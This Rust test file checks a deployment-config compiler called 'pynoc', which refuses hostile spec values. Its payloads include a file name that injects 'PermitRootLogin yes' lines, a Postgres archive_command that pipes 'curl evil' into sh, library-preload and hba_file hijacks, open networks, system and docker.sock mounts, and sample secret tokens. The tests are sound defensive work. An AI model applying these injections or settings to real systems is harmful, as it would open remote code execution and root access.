//! Hostile values (issue 9): each class of value that once got through and changed what an
//! artifact means, with every payload in every field of its kind. Each must be refused at
//! the payload itself, with its code; the harmless neighbours of each payload must pass, so
//! the checks are about meaning, not about a single string.

mod common;

use common::{accepted, diags, plant, refused};

fn example() -> String {
    std::fs::read_to_string(common::example()).unwrap()
}

#[test]
fn a_file_name_cannot_plant_lines_in_any_artifact() {
    let name = "spec\nPermitRootLogin yes\r\n[sshd]\nenabled = false\u{2028}.kdl";
    let c = pynoc::compile(&example(), name).unwrap();
    for a in &c.artifacts {
        for line in a.content.lines() {
            assert!(
                !line.starts_with("PermitRootLogin yes") && !line.starts_with("enabled = false"),
                "{}: the file name reached a line of its own: {line}",
                a.path()
            );
        }
        assert!(!a.content.contains('\u{2028}') && !a.content.contains('\r'), "{}", a.path());
    }
}

#[test]
fn nesting_of_any_depth_is_a_diagnostic_never_a_crash() {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in [
        ("blocks.kdl", format!("pynoc 1\nhost {}{}\n", "{ a ".repeat(5000), "}".repeat(5000))),
        ("comments.kdl", format!("pynoc 1\n{}{}\n", "/*".repeat(100_000), "*/".repeat(100_000))),
        ("unclosed.kdl", format!("pynoc 1\nhost {}\n", "{ a ".repeat(100_000))),
    ] {
        let spec = dir.path().join(name);
        std::fs::write(&spec, &text).unwrap();
        let r = common::pynoc().arg("check").arg(&spec).run();
        assert_eq!(r.code(), 1, "{name}: {}", r.stderr());
        assert!(
            r.stderr().contains("nests deeper than 64 levels") && r.stderr().contains(&format!("{name}:2:")),
            "{name}: {}",
            r.stderr()
        );
    }
    // Sixty levels are fine for the parser (the spec is then wrong for other reasons).
    let spec = dir.path().join("sixty.kdl");
    std::fs::write(&spec, format!("pynoc 1\nhost {}{}\n", "{ a ".repeat(60), "}".repeat(60))).unwrap();
    let r = common::pynoc().arg("check").arg(&spec).run();
    assert!(r.code() == 1 && !r.stderr().contains("nests deeper"), "{}", r.stderr());
    // Braces and comment openers inside strings do not count.
    let quoted = format!(
        "pynoc 1\nproject p {{\n    domain \"{}\"\n    admin-email #\"{}\"#\n}}\n",
        "{/*".repeat(100),
        "{".repeat(100)
    );
    let d = pynoc::analyze(&quoted, "q.kdl").expect_err("the values are invalid");
    assert!(
        !d.iter().any(|d| d.message.contains("nests deeper")),
        "{}",
        d.iter().map(|d| d.render(false)).collect::<String>()
    );
}

#[test]
fn invalid_utf8_is_a_located_spec_error() {
    let dir = tempfile::tempdir().unwrap();
    let spec = dir.path().join("latin1.kdl");
    std::fs::write(&spec, b"pynoc 1\nproject caf\xe9 {\n}\n").unwrap();
    let r = common::pynoc().arg("check").arg(&spec).run();
    assert_eq!(r.code(), 1, "{}", r.stderr());
    let err = r.stderr();
    assert!(err.contains("pynoc::E001::syntax") && err.contains("byte 19") && err.contains("latin1.kdl:2:12"), "{err}");
    let out = dir.path().join("out");
    common::pynoc().arg("build").arg(&spec).arg("-o").arg(&out).run().expect(1);
    assert!(!out.exists(), "nothing is written for a spec that is not UTF-8");
}

#[test]
fn a_flood_of_errors_is_counted_not_all_rendered() {
    let dir = tempfile::tempdir().unwrap();
    let spec = dir.path().join("flood.kdl");
    let text: String =
        std::iter::once("pynoc 1\n".to_string()).chain((0..20_000).map(|i| format!("bogus{i} 1\n"))).collect();
    std::fs::write(&spec, text).unwrap();
    let r = common::pynoc().arg("check").arg(&spec).run();
    assert_eq!(r.code(), 1);
    let err = r.stderr();
    // 20,000 unknown nodes and the missing `project`: the first 50 are shown, the rest counted.
    assert_eq!(err.matches("pynoc::E").count(), pynoc::diag::MAX_SHOWN, "{}", &err[err.len().saturating_sub(500)..]);
    assert!(
        err.contains("and 19951 more diagnostics (19951 errors, 0 warnings) not shown"),
        "{}",
        &err[err.len() - 300..]
    );
    assert!(err.contains("the spec has 20001 errors"), "{}", &err[err.len() - 300..]);
}

#[test]
fn networks_that_grant_are_narrow_however_written() {
    let fields = [
        ("network internal \"10.0.0.0/8\"", "network internal \"{}\""),
        (
            "fail2ban bantime=\"1h\" findtime=\"10m\" maxretry=3 {",
            "fail2ban bantime=\"1h\" findtime=\"10m\" maxretry=3 {\n        ignore \"{}\"",
        ),
        ("allow 9093 from=internal", "allow 9093 from=\"{}\""),
        (
            "hostssl pynomaly pynomaly_app \"172.20.0.0/16\"",
            "hostssl pynomaly pynomaly_app \"172.20.0.0/16\"\n        hostssl pynomaly pynomaly_monitor \"{}\"",
        ),
    ];
    // The example's database runs in its compose stack: a pg_hba line is accepted only for
    // addresses its network can have (E049), so the narrow ones tried there are such.
    let narrow = |field: &str| -> &[&str] {
        if field.starts_with("hostssl") {
            &["172.20.0.0/16", "172.20.7.0/24", "172.16.0.0/12"]
        } else {
            &["10.0.0.0/8", "192.168.1.0/24", "2001:db8::/32", "::ffff:10.0.0.0/104", "fd00:1::/48"]
        }
    };
    let broad = [
        "0.0.0.0/0",
        "0.0.0.0/1",
        "128.0.0.0/1",
        "0.0.0.0/7",
        "::/0",
        "::/1",
        "2000::/3",
        "2001::/16",
        "::ffff:0:0/96",
        "::fffe:0:0/95",
        "::ffff:0.0.0.0/97",
        "64:ff9b::/96",
        "2002::/16",
        "::/96",
    ];
    for field in fields {
        for payload in broad {
            refused(field, payload, "E017");
        }
        for payload in narrow(field.0) {
            accepted(field, payload);
        }
    }
    // A deny rule and a `reject` line may name anything.
    accepted(("allow 9093 from=internal", "deny 9093 from=\"{}\""), "0.0.0.0/1");
}

#[test]
fn built_in_and_reserved_roles_are_refused_wherever_a_role_is_named() {
    let fields = [
        ("owner=pynomaly_owner", "owner={}"),
        ("role pynomaly_monitor login", "role {} login"),
        ("role pynomaly_app login", "role {} login"),
    ];
    for field in fields {
        for payload in [
            "postgres",
            "pg_monitor",
            "pg_read_server_files",
            "pg_execute_server_program",
            "public",
            "all",
            "current_user",
            "session_user",
            "replication",
        ] {
            refused(field, payload, "E021");
        }
    }
    for payload in ["postgres", "template0", "template1"] {
        refused(("postgres database=pynomaly", "postgres database={}"), payload, "E021");
    }
}

#[test]
fn dangerous_postgres_settings_need_a_reason_and_get_it_repeated() {
    let field = ("set max_connections 100", "set {}");
    for payload in [
        "archive_command \"curl evil | sh\"",
        "shared_preload_libraries \"evil\"",
        "session_preload_libraries \"evil\"",
        "local_preload_libraries \"evil\"",
        "dynamic_library_path \"/tmp\"",
        "hba_file \"/tmp/hba\"",
        "ident_file \"/tmp/ident\"",
        "data_directory \"/tmp/pg\"",
        "password_encryption \"md5\"",
        "allow_system_table_mods #true",
        "fsync #false",
        "row_security #false",
    ] {
        let name = payload.split(' ').next().unwrap();
        // The example sets some of these already; take that line out first.
        let text = example();
        let text = text
            .lines()
            .filter(|l| !l.trim_start().starts_with(&format!("set {name} ")))
            .collect::<Vec<_>>()
            .join("\n");
        let spec = text.replacen(field.0, &format!("set {payload}"), 1);
        let offset = spec.find(&format!("set {name}")).unwrap() + 4;
        let errs = diags(&spec).expect_err(payload);
        assert!(
            errs.iter().any(|d| d.kind.code() == "E014" && d.primary.as_ref().is_some_and(|l| l.span.offset == offset)),
            "{payload}: {}",
            errs.iter().map(|d| d.render(false)).collect::<String>()
        );
        // With a reason it compiles, and the SQL says why above the setting.
        let spec =
            spec.replacen(&format!("set {payload}"), &format!("set {payload} reason=\"the vendor's extension\""), 1);
        let c = pynoc::compile(&spec, "spec.kdl")
            .unwrap_or_else(|e| panic!("{payload}: {}", e.iter().map(|d| d.render(false)).collect::<String>()));
        let sql = &c.artifacts.iter().find(|a| a.path().ends_with(".sql")).unwrap().content;
        assert!(sql.contains(&format!("-- {name}: the vendor's extension\nALTER SYSTEM SET")), "{payload}:\n{sql}");
    }
}

#[test]
fn a_well_known_variable_is_no_password_source() {
    let field = ("password-env=PYNOMALY_MONITOR_PASSWORD", "password-env={}");
    for payload in [
        "PATH",
        "HOME",
        "USER",
        "SHELL",
        "HOSTNAME",
        "PWD",
        "LANG",
        "LC_ALL",
        "GITHUB_SHA",
        "CI",
        "PGUSER",
        "SSH_CONNECTION",
    ] {
        refused(field, payload, "E020");
    }
    accepted(field, "MONITOR_DB_PASSWORD");
}

#[test]
fn dockerignore_defaults_come_last_so_no_negation_brings_secrets_back() {
    for payload in ["!.env", "!secrets/", "!**", "!.git", "!*"] {
        let (spec, _) =
            plant("requirements requirements.txt", "requirements requirements.txt\n        ignore \"{}\"", payload);
        let c = pynoc::compile(&spec, "spec.kdl")
            .unwrap_or_else(|e| panic!("{}", e.iter().map(|d| d.render(false)).collect::<String>()));
        let ignore = &c.artifacts.iter().find(|a| a.path().ends_with(".dockerignore")).unwrap().content;
        let patterns: Vec<&str> = ignore.lines().filter(|l| !l.starts_with('#') && !l.is_empty()).collect();
        let at = patterns.iter().position(|p| *p == payload).expect("the spec's pattern is written");
        for secret in [".env", ".env.*", "secrets/", ".git"] {
            let last = patterns.iter().rposition(|p| *p == secret).unwrap();
            assert!(last > at, "`{secret}` comes before `{payload}`, which re-includes it:\n{ignore}");
        }
    }
}

#[test]
fn paths_that_hand_the_host_or_the_image_away_are_refused() {
    let system = [
        "/",
        "/etc",
        "/etc/ssh",
        "/usr",
        "/usr/local/bin",
        "/bin",
        "/boot",
        "/root",
        "/var/lib",
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/proc",
        "/sys",
        "/dev",
        "/var",
    ];
    // Ownership by the app user.
    let writable = ("writable \"/app/logs\" \"/app/data\"", "writable \"/app/logs\" \"/app/data\" \"{}\"");
    for payload in system.iter().chain(&["/app", "/app/", "/opt/venv", "/opt/venv/bin"]) {
        refused(writable, payload, "E018");
    }
    accepted(writable, "/app/cache");
    // A bind mount into a container.
    let device = ("volume app_data device=\"/opt/pynomaly/data/app\"", "volume app_data device=\"{}\"");
    for payload in system.iter().chain(&["/home", "/opt", "/srv", "/tmp"]) {
        refused(device, payload, "E018");
    }
    accepted(device, "/srv/pynomaly/data");
    // A tmpfs over a system directory, on the host or in a container.
    for field in [
        ("tmpfs \"/var/tmp\" size=\"1G\"", "tmpfs \"{}\" size=\"1G\""),
        ("tmpfs \"/tmp\" size=\"100m\"", "tmpfs \"{}\" size=\"100m\""),
    ] {
        for payload in
            ["/", "/etc", "/usr", "/usr/lib", "/var/lib/postgresql", "/boot", "/root", "/var", "/app", "/opt/venv"]
        {
            refused(field, payload, "E018");
        }
    }
    // A container's own /run is its scratch space; the host's fstab has /tmp, /var/tmp and
    // /dev/shm only (its /run is a tmpfs already, emptied at every boot).
    accepted(("tmpfs \"/tmp\" size=\"100m\"", "tmpfs \"{}\" size=\"100m\""), "/run/pynomaly");
    refused(("tmpfs \"/var/tmp\" size=\"1G\"", "tmpfs \"{}\" size=\"1G\""), "/run/pynomaly", "E018");
    // World-writable without the sticky bit needs a reason.
    let mode = ("tmpfs \"/var/tmp\" size=\"1G\"", "tmpfs \"/var/tmp\" size=\"1G\" mode=\"{}\"");
    for payload in ["0777", "777", "0666", "0773"] {
        refused(mode, payload, "E014");
    }
    for payload in ["1777", "0755", "0700", "1733"] {
        accepted(mode, payload);
    }
}

#[test]
fn limits_are_never_switched_off_by_a_zero() {
    let fields = [
        ("memory=\"2G\"", "memory=\"{}\""),
        ("reserve-memory=\"512M\"", "reserve-memory=\"{}\""),
        ("maxmemory=\"512mb\"", "maxmemory=\"{}\""),
        ("client-max-body-size=\"100m\"", "client-max-body-size=\"{}\""),
        ("tmpfs \"/tmp\" size=\"100m\"", "tmpfs \"/tmp\" size=\"{}\""),
        ("tmpfs \"/var/tmp\" size=\"1G\"", "tmpfs \"/var/tmp\" size=\"{}\""),
    ];
    for field in fields {
        let zeros: &[&str] = if field.0.starts_with("maxmemory") {
            &["0", "0mb", "00kb"]
        } else if field.0.starts_with("client") || field.0.starts_with("tmpfs") {
            &["0", "0m", "00k"]
        } else {
            &["0M", "00G", "0K"]
        };
        for payload in zeros {
            refused(field, payload, "E019");
        }
    }
    for payload in ["0", "0.0"] {
        refused(("cpus=\"2.0\"", "cpus=\"{}\""), payload, "E007");
    }
}

#[test]
fn services_never_run_in_the_root_group() {
    let field = ("service redis image=redis:7-bookworm", "service redis image=redis:7-bookworm user=\"{}\"");
    for payload in ["999:0", "0:0", "0:999"] {
        refused(field, payload, "E031");
    }
    // An image pynoc does not know takes the user it is given, which must not be root's group.
    let field = (
        "        service redis image=",
        "        service other image=\"example/app:1.0\" user=\"{}\" {\n            networks backend\n        }\n        service redis image=",
    );
    for payload in ["1002:0", "0:1002", "0:0"] {
        refused(field, payload, "E022");
    }
    accepted(field, "1002:1002");
}

#[test]
fn secret_looking_values_are_never_baked_into_an_image_or_a_compose_file() {
    let secrets = [
        ("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE"),
        ("TOKEN_FOR_CI", "ghp_0123456789abcdefghijABCDEFGHIJ012345"),
        ("KEY", "-----BEGIN OPENSSH PRIVATE KEY-----"),
        ("STRIPE", "sk_live_0123456789abcdefghijklmn"),
        ("SESSION", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"),
        ("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
        ("DB_PASSWORD", "hunter2"),
        ("API_TOKEN", "abc"),
    ];
    for (name, value) in secrets {
        // An image `env` (every layer) and a compose `env` (the file in the repository).
        for anchor in ["requirements requirements.txt", "env DATABASE_USER pynomaly_app"] {
            let (spec, _) = plant(anchor, &format!("{anchor}\n        env {name} \"{{}}\""), value);
            let errs = diags(&spec).expect_err(&format!("{name}={value} under `{anchor}`"));
            assert!(
                errs.iter().any(|d| d.kind.code() == "E020" && d.message.contains(name)),
                "{name}: {}",
                errs.iter().map(|d| d.render(false)).collect::<String>()
            );
        }
    }
    // A `*_FILE` variable points at a secret file: fine, as are ordinary values.
    for (name, value) in
        [("DB_PASSWORD_FILE", "/run/secrets/db_password"), ("APP_ENV", "production"), ("LOG_LEVEL", "info")]
    {
        let (spec, _) = plant(
            "requirements requirements.txt",
            &format!("requirements requirements.txt\n        env {name} \"{{}}\""),
            value,
        );
        diags(&spec).unwrap_or_else(|e| panic!("{name}: {}", e.iter().map(|d| d.render(false)).collect::<String>()));
    }
}

#[test]
fn free_text_cannot_hide_or_reorder_what_a_reviewer_reads() {
    // A line separator, a right-to-left override, a zero-width space, a byte-order mark.
    for hidden in ["\\u{2028}", "\\u{202e}", "\\u{200b}", "\\u{feff}", "\\u{2066}"] {
        for field in [
            ("tmpfs \"/var/tmp\" size=\"1G\"", "tmpfs \"/var/tmp\" size=\"1G\" nodev=#false reason=\"{}\""),
            ("env DATABASE_USER pynomaly_app", "env DATABASE_USER pynomaly_app\n            env NOTE \"{}\""),
            ("cmd python -m", "cmd python \"{}\""),
            ("set log_line_prefix \"%t [%p]: [%l-1] user=%u,db=%d,app=%a,client=%h \"", "set log_line_prefix \"{}\""),
            ("referrer-policy no-referrer", "referrer-policy \"{}\""),
        ] {
            refused(field, &format!("ok{hidden}ok"), "E013");
        }
    }
}
